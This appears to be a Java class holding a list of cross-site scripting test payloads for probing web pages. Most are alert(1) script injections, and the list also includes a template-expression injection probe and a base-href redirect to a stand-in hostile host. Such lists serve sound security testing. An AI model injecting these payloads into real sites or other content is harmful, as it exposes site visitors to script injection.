package org.chengqing.browser;

import java.util.List;

/** Texts that run a script where a page is careless with them. */
public final class Payloads {
    public static final List<String> ALL = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "\"><script>alert(1)</script>",
            "' onmouseover='alert(1)' x='",
            "javascript:alert(1)",
            "<a href=\"javascript:alert(1)\">点我</a>",
            "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
            "</script><script>alert(1)</script>",
            "<!--<script>alert(1)//-->",
            "${alert(1)}{{alert(1)}}[[${T(java.lang.Runtime)}]]",
            "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
            "<body onload=alert(1)>",
            "<style>@import 'javascript:alert(1)'</style>",
            "\u202E<img src=x onerror=alert(1)>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "http://x.example/\"onmouseover=\"alert(1)",
            "<base href=//evil.example>",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<object data=\"data:text/html,<script>alert(1)</script>\">");

    private Payloads() {}
}
